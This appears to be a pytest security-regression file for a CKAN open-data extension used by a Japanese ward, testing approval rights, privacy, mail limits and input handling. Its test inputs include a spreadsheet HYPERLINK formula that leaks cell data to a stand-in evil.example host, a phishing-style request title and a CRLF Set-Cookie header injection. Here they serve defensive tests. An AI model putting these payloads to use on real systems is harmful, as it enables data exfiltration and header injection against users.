"""What an attack walk with department accounts found in reuses and data requests, each
closed (every test failed before its fix)."""
from __future__ import annotations

import csv
import io
import re

import pytest

import ckan.plugins.toolkit as tk
from ckan.tests import helpers

from ckanext.nakano.data_requests import opendata
from ckanext.nakano.metrics import usage_dataset
from ckanext.nakano.tests.local_mail import open_inbox, run_worker
from ckanext.nakano.tests.submissions.conftest import as_user

REUSE = {"title": "AEDマップ中野", "kind": "app", "url": "https://example.jp/aed-map", "provider": "中野テック株式会社",
         "provider_kind": "company"}


def _reuse(user, **extra):
    return helpers.call_action("nakano_showcase_create", context=as_user(user), **{**REUSE, "datasets": ["aed"],
                                                                                  **extra})


def _approve(reuse, by):
    return helpers.call_action("nakano_showcase_moderate", context=as_user(by), id=reuse["id"], decision="approve")


def _listed_request(user, **extra):
    request = helpers.call_action("nakano_request_create", context=as_user(user),
                                  **{"title": "公園のベンチ", "purpose": "community", **extra})
    if request["state"] != "active":
        helpers.call_action("nakano_request_update", context={"ignore_auth": True, "user": ""},
                            id=request["id"], state="active")
    return request


def test_an_admin_cannot_publish_onto_another_departments_datasets_unseen(ward):
    own = _reuse(ward.health_admin)
    with pytest.raises(tk.NotAuthorized):   # nobody approves their own reuse (but the office)
        _approve(own, ward.health_admin)
    reuse = _approve(_reuse(ward.company), ward.health_admin)
    edited = helpers.call_action("nakano_showcase_update", context=as_user(ward.health_admin), id=reuse["id"],
                                 title="子ども教育部も推薦", datasets=["aed", "nursery"])
    assert edited["proposed"]["title"] == "子ども教育部も推薦"
    public = helpers.call_action("nakano_showcase_show", context=as_user(None), id=reuse["id"])
    assert public["title"] == "AEDマップ中野" and [d["name"] for d in public["datasets"]] == ["aed"]
    # The edit reaches 子ども教育部's dataset: 健康福祉部's admin may not approve it; 子ども教育部's or the office may.
    with pytest.raises(tk.NotAuthorized):
        _approve(reuse, ward.health_admin)
    _approve(reuse, ward.office)
    assert helpers.call_action("nakano_showcase_show", context=as_user(None), id=reuse["id"])["title"] == "子ども教育部も推薦"


def test_only_the_requester_chooses_whether_their_name_is_shown(ward):
    request = _listed_request(ward.resident, department="kenko-fukushi")
    with pytest.raises(tk.NotAuthorized):
        helpers.call_action("nakano_request_update", context=as_user(ward.health_admin), id=request["id"],
                            show_name=True)
    assert helpers.call_action("nakano_request_show", context=as_user(None), id=request["id"])["requester"] is None
    assert not any(r["requester"] for r in opendata.records())


def test_a_moderator_of_another_department_does_not_see_a_private_dataset_through_a_reuse(ward):
    reuse = _reuse(ward.health_editor, datasets=["aed", "secret"])   # 健康福祉部's own private dataset
    for outsider in (ward.kids_admin, None):
        try:
            shown = helpers.call_action("nakano_showcase_show", context=as_user(outsider), id=reuse["id"])
        except tk.ObjectNotFound:
            continue
        assert "secret" not in str(shown)
    assert "secret" in str(helpers.call_action("nakano_showcase_show", context=as_user(ward.health_admin),
                                               id=reuse["id"]))
    _approve(reuse, ward.health_admin)
    # Naming the private dataset in a filter tells nothing of it.
    assert helpers.call_action("nakano_showcase_list", context=as_user(None), dataset="secret")["count"] == 0


def test_the_confirmation_mail_quotes_nothing_and_is_limited_per_address(ward, ckan_config, monkeypatch):
    inbox = open_inbox()
    helpers.call_action("nakano_request_create", context=as_user(None), title="【重要】アカウント停止 https://evil.example",
                        purpose="other", email="victim@example.org")
    run_worker()
    (message,) = [m for m in inbox() if "victim@example.org" in m["To"]]
    assert "evil.example" not in message.get_content() and "アカウント停止" not in message.get_content()
    monkeypatch.setitem(ckan_config, "ckanext.nakano.submissions.per_account_per_hour", 1)
    with pytest.raises(tk.ValidationError):
        helpers.call_action("nakano_request_create", context=as_user(None), title="二通目", purpose="other",
                            email="victim@example.org")


def test_an_edit_goes_through_the_word_list(ward):
    _listed_request(ward.resident)
    request = _listed_request(ward.resident, title="公衆トイレの位置")
    edited = helpers.call_action("nakano_request_update", context=as_user(ward.resident), id=request["id"],
                                 title="カジノの広告")
    assert edited["state"] == "pending"


def test_a_withdrawn_reuse_is_not_published_again(ward):
    reuse = _reuse(ward.company)
    helpers.call_action("nakano_showcase_delete", context=as_user(ward.company), id=reuse["id"])
    with pytest.raises(tk.ValidationError):
        _approve(reuse, ward.health_admin)


def test_open_data_files_keep_formula_like_cells_text(ward):
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"詳細")'
    _listed_request(ward.office, title=formula)
    rows = list(csv.DictReader(io.StringIO(opendata.files()["data_requests.csv"].decode("utf-8-sig"))))
    assert rows[0]["title"] == "'" + formula
    _approve(_reuse(ward.company, title=formula), ward.office)
    reuses = usage_dataset.tables()["reuses.csv"].decode("utf-8")
    assert "'=HYPERLINK" in reuses and "\n=HYPERLINK" not in reuses and ",=HYPERLINK" not in reuses


def test_edits_count_against_the_limit_and_mail_the_department_once(ward, ckan_config, monkeypatch):
    reuse = _approve(_reuse(ward.company), ward.health_admin)
    run_worker()   # the mails of the submission and the publication
    inbox = open_inbox()
    for number in range(3):
        helpers.call_action("nakano_showcase_update", context=as_user(ward.company), id=reuse["id"],
                            title=f"改訂 {number}")
    run_worker()
    assert len([m for m in inbox() if "health_admin@example.org" in m["To"]]) == 1
    monkeypatch.setitem(ckan_config, "ckanext.nakano.submissions.per_account_per_hour", 5)
    with pytest.raises(tk.ValidationError):
        for number in range(5):
            helpers.call_action("nakano_showcase_update", context=as_user(ward.company), id=reuse["id"],
                                title=f"改訂 {number + 3}")


def test_required_fields_cannot_be_emptied(ward):
    reuse = _reuse(ward.company)
    with pytest.raises(tk.ValidationError) as refused:
        helpers.call_action("nakano_showcase_update", context=as_user(ward.company), id=reuse["id"], title="",
                            url="", kind="")
    assert {"title", "url", "kind"} <= set(refused.value.error_dict)
    request = _listed_request(ward.resident, department="kenko-fukushi")
    with pytest.raises(tk.ValidationError):
        helpers.call_action("nakano_request_update", context=as_user(ward.health_admin), id=request["id"], state="")


def test_a_merged_request_is_not_merged_again(ward):
    a = _listed_request(ward.resident, department="kenko-fukushi")
    b = _listed_request(ward.company, department="kenko-fukushi", title="ベンチ")
    c = _listed_request(ward.stranger, department="kenko-fukushi", title="公園の椅子")
    helpers.call_action("nakano_request_merge", context=as_user(ward.health_admin), id=b["id"], into=a["id"])
    with pytest.raises(tk.ValidationError):
        helpers.call_action("nakano_request_merge", context=as_user(ward.health_admin), id=b["id"], into=c["id"])


def test_a_request_names_an_item_of_the_department_it_goes_to(ward):
    item = helpers.call_action("nakano_inventory_item_create", context=as_user(ward.kids_editor),
                               department="kodomo-kyoiku", local_id="KK-001", title="保育園の空き状況",
                               status="planned", planned_month="2027-04", listed="yes")
    with pytest.raises(tk.ValidationError):
        helpers.call_action("nakano_request_create", context=as_user(ward.resident), title="保育園の空き",
                            purpose="personal", department="kenko-fukushi", inventory_item=item["id"])


def test_malformed_form_values_are_not_a_500(ward, app):
    token = helpers.call_action("api_token_create", user=ward.health_admin["name"], name="t")["token"]
    request = _listed_request(ward.resident, department="kenko-fukushi")
    for into in ("²", "①", "9" * 30):
        answer = app.post(f"/request/{request['id']}/merge", headers={"Authorization": token}, data={"into": into},
                          follow_redirects=False)
        assert answer.status_code < 500, into
    answer = app.post("/user/department-mail", headers={"Authorization": token},
                      data={"on": "1", "came_from": "/\r\nSet-Cookie: x=1"}, follow_redirects=False)
    assert answer.status_code in (302, 303) and "Set-Cookie: x" not in str(answer.headers)
    assert re.match(r"^(https?://[^/]+)?/", answer.headers["Location"])
